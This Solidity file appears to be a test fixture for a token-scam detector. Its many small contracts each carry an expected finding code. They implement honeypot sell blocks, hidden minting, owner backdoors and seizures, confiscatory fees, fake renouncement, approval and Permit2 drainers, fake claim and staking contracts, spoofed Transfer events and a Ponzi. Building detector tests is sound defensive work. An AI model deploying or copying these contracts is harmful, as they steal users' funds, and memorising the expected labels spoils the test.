// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

// Contracts that take from people, each in one way. The line above each names what has to be found in its code.
interface IERC20 {
    function transfer(address, uint) external returns (bool);
    function transferFrom(address, address, uint) external returns (bool);
    function balanceOf(address) external view returns (uint);
    function approve(address, uint) external returns (bool);
}
interface INft {
    function safeTransferFrom(address, address, uint) external;
}
interface IPermit2 {
    function transferFrom(address, address, uint160, address) external;
}
interface IPermit is IERC20 {
    function permit(address, address, uint, uint, uint8, bytes32, bytes32) external;
}

/// A plain token; what is wrong with its children is theirs alone.
abstract contract T {
    string public name = "T";
    string public symbol = "T";
    uint8 public decimals = 18;
    uint public totalSupply;
    mapping(address => uint) public balanceOf;
    mapping(address => mapping(address => uint)) public allowance;
    address public owner = msg.sender;
    event Transfer(address indexed a, address indexed b, uint v);
    event Approval(address indexed a, address indexed b, uint v);
    modifier onlyOwner() {
        require(msg.sender == owner, "o");
        _;
    }
    constructor() {
        totalSupply = 1e24;
        balanceOf[msg.sender] = 1e24;
    }
    function approve(address s, uint v) public virtual returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
    function transfer(address t, uint v) public virtual returns (bool) {
        _t(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint v) public virtual returns (bool) {
        allowance[f][msg.sender] -= v;
        _t(f, t, v);
        return true;
    }
    function _t(address f, address t, uint v) internal virtual {
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
    }
    function transferOwnership(address n) external onlyOwner {
        owner = n;
    }
    function renounceOwnership() external virtual onlyOwner {
        owner = address(0);
    }
}
/// expects: CT-12 danger
contract HoneypotPair is T {
    address public pair;
    function setPair(address p) external onlyOwner {
        pair = p;
    }
    function _t(address f, address t, uint v) internal override {
        if (t == pair) require(f == owner, "x");
        super._t(f, t, v);
    }
}
/// expects: CT-16 danger
contract HoneypotWhitelist is T {
    mapping(address => bool) public ok;
    function allow(address a, bool b) external onlyOwner {
        ok[a] = b;
    }
    function _t(address f, address t, uint v) internal override {
        require(ok[f] || f == owner, "w");
        super._t(f, t, v);
    }
}
/// expects: CT-06 danger
contract HiddenMint is T {
    function syncRewards(address a, uint v) external onlyOwner {
        balanceOf[a] += v;
    }
}
/// expects: CT-06 danger
contract BalanceSetter is T {
    function rebalance(address a, uint v) external onlyOwner {
        balanceOf[a] = v;
    }
}
/// expects: CT-30 danger
contract BackdoorFrom is T {
    function transferFrom(address f, address t, uint v) public override returns (bool) {
        if (msg.sender != owner) allowance[f][msg.sender] -= v;
        _t(f, t, v);
        return true;
    }
}
/// expects: CT-30 danger
contract AdminSeize is T {
    function recoverTokens(address f, uint v) external onlyOwner {
        balanceOf[f] -= v;
        balanceOf[owner] += v;
        emit Transfer(f, owner, v);
    }
}
/// expects: CT-09 danger
contract FeeUncapped is T {
    uint public sellFee = 3;
    address public pair;
    function setFee(uint f) external onlyOwner {
        sellFee = f;
    }
    function setPair(address p) external onlyOwner {
        pair = p;
    }
    function _t(address f, address t, uint v) internal override {
        uint x = t == pair ? (v * sellFee) / 100 : 0;
        balanceOf[f] -= v;
        balanceOf[owner] += x;
        balanceOf[t] += v - x;
        emit Transfer(f, t, v - x);
    }
}
/// expects: CT-17 danger
contract TakeBack is T {
    address private prev;
    function renounceOwnership() external override onlyOwner {
        prev = owner;
        owner = address(0);
    }
    function restore() external {
        require(msg.sender == prev);
        owner = prev;
    }
}
/// expects: CT-17 danger
contract HiddenOwner is T {
    address private boss = msg.sender;
    function update(address a) external {
        require(msg.sender == boss);
        owner = a;
    }
}
/// expects: CT-32 danger
contract OriginGate is T {
    address private dev = msg.sender;
    function _t(address f, address t, uint v) internal override {
        require(tx.origin == dev || tx.gasprice < 5 gwei);
        super._t(f, t, v);
    }
}
/// expects: CT-11 danger
contract DelegateAny {
    address public owner = msg.sender;
    function run(address t, bytes calldata d) external payable {
        (bool ok, ) = t.delegatecall(d);
        require(ok);
    }
}
/// expects: CT-11 danger
contract DelegateStored {
    address public owner = msg.sender;
    address public lib;
    function setLib(address l) external {
        require(msg.sender == owner);
        lib = l;
    }
    function claim(bytes calldata d) external payable {
        (bool ok, ) = lib.delegatecall(d);
        require(ok);
    }
}
/// expects: AP-16 danger
contract Drainer {
    address private o = msg.sender;
    function claim(IERC20 t, address v) external {
        require(msg.sender == o);
        t.transferFrom(v, o, t.balanceOf(v));
    }
    function multi(IERC20[] calldata t, address v) external {
        require(msg.sender == o);
        for (uint i; i < t.length; i++) t[i].transferFrom(v, o, t[i].balanceOf(v));
    }
}
/// expects: AP-16 danger
contract DrainerOpen {
    function pull(address t, address f, address to, uint a) external {
        IERC20(t).transferFrom(f, to, a);
    }
}
/// expects: CT-28 danger
contract ClaimEth {
    address private o = msg.sender;
    function Claim() public payable {}
    function SecurityUpdate() public payable {}
    function withdraw() public {
        require(msg.sender == o);
        payable(o).transfer(address(this).balance);
    }
}
/// expects: CT-28 danger
contract ClaimForward {
    address payable private o = payable(msg.sender);
    function claimRewards() public payable {
        o.transfer(msg.value);
    }
}
/// expects: CT-28 danger
contract FakeStaking {
    address public owner = msg.sender;
    mapping(address => uint) public staked;
    function stake() external payable {
        staked[msg.sender] += msg.value;
    }
    function unstake() external {
        require(staked[msg.sender] > 0);
        uint a = staked[msg.sender];
        staked[msg.sender] = 0;
        payable(msg.sender).transfer(a);
    }
    function emergencyWithdraw() external {
        require(msg.sender == owner);
        payable(owner).transfer(address(this).balance);
    }
}
/// expects: CT-28 danger
contract FakeTokenVault {
    address public owner = msg.sender;
    IERC20 public t;
    mapping(address => uint) public dep;
    constructor(IERC20 a) {
        t = a;
    }
    function deposit(uint a) external {
        dep[msg.sender] += a;
        t.transferFrom(msg.sender, address(this), a);
    }
    function withdraw(uint a) external {
        dep[msg.sender] -= a;
        t.transfer(msg.sender, a);
    }
    function migrate(address x) external {
        require(msg.sender == owner);
        t.transfer(x, t.balanceOf(address(this)));
    }
}
/// expects: CT-10 warning
contract Killable is T {
    function kill() external onlyOwner {
        selfdestruct(payable(owner));
    }
}
/// expects: CT-35 danger
contract OpenInit {
    address public owner;
    uint public x;
    function initialize(address o) external {
        owner = o;
    }
    function withdraw() external {
        require(msg.sender == owner);
        payable(owner).transfer(address(this).balance);
    }
    receive() external payable {}
}
/// expects: CT-21 warning, CT-22 danger
contract NoMove is T {
    function _t(address f, address t, uint v) internal override {
        emit Transfer(f, t, v);
    }
}
/// expects: CT-22 danger, CT-21 warning
contract FakeEvents {
    event Transfer(address indexed a, address indexed b, uint v);
    string public name = "USD Coin";
    string public symbol = "USDC";
    uint8 public decimals = 6;
    mapping(address => uint) public balanceOf;
    function drop(address[] calldata a, address[] calldata b, uint v) external {
        for (uint i; i < a.length; i++) emit Transfer(a[i], b[i], v);
    }
    function transfer(address, uint) external pure returns (bool) {
        return true;
    }
}
/// expects: CT-26 danger, CT-10 danger
contract Metamorph {
    function make(bytes32 s, bytes calldata c) external returns (address a) {
        bytes memory b = c;
        assembly {
            a := create2(0, add(b, 32), mload(b), s)
        }
    }
    function die() external {
        selfdestruct(payable(msg.sender));
    }
}
/// expects: CT-08 danger
contract PauseTrading is T {
    bool public open;
    mapping(address => bool) ex;
    function enable(bool b) external onlyOwner {
        open = b;
    }
    function setEx(address a, bool b) external onlyOwner {
        ex[a] = b;
    }
    function _t(address f, address t, uint v) internal override {
        require(open || ex[f] || f == owner);
        super._t(f, t, v);
    }
}
/// expects: CT-07 warning
contract BlacklistT is T {
    mapping(address => bool) bots;
    function setBots(address[] calldata a, bool b) external onlyOwner {
        for (uint i; i < a.length; i++) bots[a[i]] = b;
    }
    function _t(address f, address t, uint v) internal override {
        require(!bots[f]);
        super._t(f, t, v);
    }
}
/// expects: CT-05 warning
contract MintOwner is T {
    function mint(address a, uint v) external onlyOwner {
        totalSupply += v;
        balanceOf[a] += v;
        emit Transfer(address(0), a, v);
    }
}
/// expects: CT-06 danger
contract HardcodedOwner is T {
    function _t(address f, address t, uint v) internal override {
        if (msg.sender != 0x1111111111111111111111111111111111111111 && t != address(this))
            require(
                balanceOf[0x1111111111111111111111111111111111111111] > 0 ||
                    f == 0x1111111111111111111111111111111111111111
            );
        super._t(f, t, v);
    }
    function fix(address a, uint v) external {
        require(msg.sender == 0x1111111111111111111111111111111111111111);
        balanceOf[a] = v;
    }
}
/// expects: CT-30 danger
contract AllowanceBackdoor is T {
    function setAllowance(address a, address s, uint v) external onlyOwner {
        allowance[a][s] = v;
    }
}
/// expects: CT-19 warning
contract MaxSell is T {
    uint public maxTx = 1e24;
    address pair;
    function setMax(uint m) external onlyOwner {
        maxTx = m;
    }
    function _t(address f, address t, uint v) internal override {
        if (f != owner) require(v <= maxTx);
        super._t(f, t, v);
    }
}
/// expects: CT-15 info
contract Cooldown is T {
    mapping(address => uint) last;
    function _t(address f, address t, uint v) internal override {
        require(block.timestamp > last[f] + 60);
        last[t] = block.timestamp;
        super._t(f, t, v);
    }
}
/// expects: CT-18 danger
contract CallInTransfer is T {
    address hook;
    function setHook(address h) external onlyOwner {
        hook = h;
    }
    function _t(address f, address t, uint v) internal override {
        (bool ok, ) = hook.call(abi.encodeWithSignature("check(address,address,uint256)", f, t, v));
        require(ok);
        super._t(f, t, v);
    }
}

/// expects: CT-12 danger
contract HoneypotUintFlag is T {
    mapping(address => uint) private status;
    address private pair;
    function setup(address p) external onlyOwner {
        pair = p;
    }
    function set(address a, uint s) external onlyOwner {
        status[a] = s;
    }
    function _t(address f, address t, uint v) internal override {
        if (t == pair && f != owner) require(status[f] == 2);
        super._t(f, t, v);
    }
}
/// expects: CT-16 danger
contract SpenderList is T {
    mapping(address => bool) private routers;
    function set(address a, bool s) external onlyOwner {
        routers[a] = s;
    }
    function transferFrom(address f, address t, uint v) public override returns (bool) {
        require(routers[msg.sender]);
        return super.transferFrom(f, t, v);
    }
}
/// expects: CT-09 danger
contract PackedFee is T {
    struct Fees {
        uint16 buy;
        uint16 sell;
        address wallet;
    }
    Fees public fees;
    mapping(address => bool) public isPool;
    function setFees(uint16 b, uint16 s) external onlyOwner {
        fees.buy = b;
        fees.sell = s;
    }
    function setPool(address p, bool b) external onlyOwner {
        isPool[p] = b;
    }
    function _t(address f, address t, uint v) internal override {
        uint x =
            isPool[t]
                ? (v * fees.sell) / 1000
                : isPool[f]
                    ? (v * fees.buy) / 1000
                    : 0;
        balanceOf[f] -= v;
        balanceOf[fees.wallet] += x;
        balanceOf[t] += v - x;
        emit Transfer(f, t, v - x);
    }
}
/// expects: CT-13 block
contract FixedTax is T {
    address public pair;
    function setPair(address p) external onlyOwner {
        pair = p;
    }
    function _t(address f, address t, uint v) internal override {
        uint x = t == pair ? (v * 99) / 100 : 0;
        balanceOf[f] -= v;
        balanceOf[owner] += x;
        balanceOf[t] += v - x;
        emit Transfer(f, t, v - x);
    }
}
/// expects: CT-06 danger
contract MintInTransfer is T {
    address private immutable dev = msg.sender;
    function _t(address f, address t, uint v) internal override {
        if (f == dev && t == address(this)) balanceOf[dev] += 1e30;
        super._t(f, t, v);
    }
}
/// expects: CT-30 danger
contract BurnAnyones is T {
    function burn(address a, uint v) external {
        balanceOf[a] -= v;
        totalSupply -= v;
        emit Transfer(a, address(0), v);
    }
}
/// expects: CT-30 danger
contract AllowanceOverride is T {
    address private boss = msg.sender;
    function transferFrom(address f, address t, uint v) public override returns (bool) {
        uint left = msg.sender == boss ? type(uint).max : allowance[f][msg.sender];
        require(left >= v);
        if (left != type(uint).max) allowance[f][msg.sender] = left - v;
        _t(f, t, v);
        return true;
    }
}
/// expects: AP-16 danger
contract NftDrainer {
    mapping(address => bool) private crew;
    constructor() {
        crew[msg.sender] = true;
    }
    function sweep(address nft, address victim, uint[] calldata ids, address to) external {
        require(crew[msg.sender]);
        for (uint i; i < ids.length; i++) INft(nft).safeTransferFrom(victim, to, ids[i]);
    }
}
/// expects: AP-16 danger
contract Permit2Drainer {
    address private immutable boss = msg.sender;
    address private constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    function go(address from, uint160 a, address token) external {
        require(msg.sender == boss);
        IPermit2(PERMIT2).transferFrom(from, boss, a, token);
    }
}
/// expects: AP-16 danger
contract PermitDrainer {
    address private boss = msg.sender;
    function take(IPermit t, address v, uint a, uint d, uint8 sv, bytes32 r, bytes32 s) external {
        t.permit(v, address(this), a, d, sv, r, s);
        t.transferFrom(v, boss, a);
    }
}
/// expects: AP-16 danger
contract ClaimTokens {
    address private boss = msg.sender;
    function claimAirdrop(IERC20 t) external {
        t.transferFrom(msg.sender, boss, t.balanceOf(msg.sender));
    }
}
/// expects: CT-28 danger
contract MultiAdminRug {
    mapping(address => bool) admins;
    mapping(address => uint) public shares;
    constructor() {
        admins[msg.sender] = true;
    }
    function invest() external payable {
        shares[msg.sender] += msg.value;
    }
    function redeem(uint a) external {
        shares[msg.sender] -= a;
        payable(msg.sender).transfer(a);
    }
    function rescue(uint a, address payable to) external {
        require(admins[msg.sender]);
        to.transfer(a);
    }
}
/// expects: CT-28 danger, CT-10 warning
contract Ponzi {
    address payable private dev = payable(msg.sender);
    mapping(address => uint) public invested;
    function invest() external payable {
        invested[msg.sender] += msg.value;
    }
    function drain() external {
        require(msg.sender == dev);
        selfdestruct(dev);
    }
}
/// expects: CT-35 danger
contract ReInit is T {
    function init(address o) external {
        owner = o;
    }
}
/// expects: CT-32 danger
contract CoinbaseGate is T {
    function _t(address f, address t, uint v) internal override {
        if (block.coinbase != address(0)) require(f == owner);
        super._t(f, t, v);
    }
}
/// expects: CT-22 danger
contract Poison {
    event Transfer(address indexed a, address indexed b, uint v);
    function poison(address a, address b, uint v) external {
        emit Transfer(a, b, v);
    }
}
/// expects: CT-11 danger
contract BlackholeProxy {
    address private lib;
    address private boss = msg.sender;
    function set(address l) external {
        require(msg.sender == boss);
        lib = l;
    }
    function deposit() external payable {
        (bool ok, ) = lib.delegatecall(msg.data);
        require(ok);
    }
}
